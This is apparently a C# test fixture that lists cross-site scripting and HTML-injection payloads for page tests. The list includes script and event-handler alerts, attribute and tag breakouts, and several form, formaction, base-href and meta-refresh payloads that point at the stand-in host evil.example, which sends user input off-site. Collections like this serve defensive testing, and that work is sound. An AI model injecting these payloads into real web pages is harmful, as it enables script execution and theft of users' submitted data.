namespace Tollgate.Functions.Tests.Pages;

/// <summary>Values that an attacker may choose: a script, or a form, address or refresh that sends user input to another site.</summary>
public static class Payloads
{
    public static readonly TheoryData<string> All =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' autofocus onfocus=alert(1) x='",
        "</title></style></pre></textarea><script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}{0}{1}{2}", "&lt;script&gt;<b>",
        "<form action=https://evil.example>", "\"><form action=\"https://evil.example\"><input name=\"", "</textarea></form><form action='//evil.example'>",
        "<button formaction=https://evil.example>", "\" formaction=\"https://evil.example", "' formaction='https://evil.example",
        "\"><button form=x formaction=//evil.example>",
        "<base href=https://evil.example>", "'><base href='//evil.example/", "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example",
    ];
}
